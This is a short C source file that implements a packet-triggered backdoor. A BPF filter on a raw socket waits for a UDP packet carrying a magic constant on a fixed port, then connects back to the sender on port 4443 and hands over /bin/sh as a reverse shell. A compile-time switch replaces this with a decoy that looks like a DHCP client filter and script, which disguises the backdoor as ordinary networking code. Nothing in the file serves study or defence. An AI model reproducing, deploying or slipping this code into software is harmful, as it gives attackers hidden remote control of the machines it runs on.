/* SPDX-License-Identifier: Apache-2.0 */
/* A packet socket whose filter lets one constant through, and a shell for who sent it. Twin: the filter
 * and the script of a client of DHCP.
 * door: trigger packet
 */
#include "net.h"
#include <linux/filter.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>

static struct sock_filter code[] = {
    {0x28, 0, 0, 12}, {0x15, 0, 9, 0x800}, {0x30, 0, 0, 23},
#ifdef TWIN
    {0x15, 0, 7, 17}, {0x28, 0, 0, 20}, {0x45, 5, 0, 0x1fff}, {0xb1, 0, 0, 14}, {0x48, 0, 0, 16},
    {0x15, 0, 2, 68}, {0x40, 0, 0, 14 + 8 + 236}, {0x15, 0, 0, 0x63825363},
#else
    {0x15, 0, 7, 17}, {0x28, 0, 0, 20}, {0x45, 5, 0, 0x1fff}, {0xb1, 0, 0, 14}, {0x48, 0, 0, 22},
    {0x15, 0, 2, 0x6b1d}, {0x40, 0, 0, 24}, {0x15, 1, 0, 0x9c4e17a3},
#endif
    {6, 0, 0, 0}, {6, 0, 0, 0xffff},
};

#ifndef TWIN
static void visit(uint32_t to)
{
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(4443)};
	int s = socket(AF_INET, SOCK_STREAM, 0);
	a.sin_addr.s_addr = to;
	if (connect(s, (struct sockaddr *)&a, sizeof a))
		return;
	dup2(s, 0);
	dup2(s, 1);
	dup2(s, 2);
	execl("/bin/sh", "sh", (char *)0);
}
#endif

int main(void)
{
	unsigned char frame[2048];
	struct sock_fprog program = {sizeof code / sizeof *code, code};
	int s = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));
	if (s < 0 || setsockopt(s, SOL_SOCKET, SO_ATTACH_FILTER, &program, sizeof program) < 0)
		return 1;
	for (;;) {
		uint32_t from;
		if (recv(s, frame, sizeof frame, 0) < 42)
			continue;
		memcpy(&from, frame + 26, 4);
#ifdef TWIN
		printf("%x\n", from);
		if (fork() == 0)
			execl("/usr/share/client/event.script", "event.script", "bound", (char *)0);
#else
		if (fork() == 0)
			visit(from);
#endif
	}
}
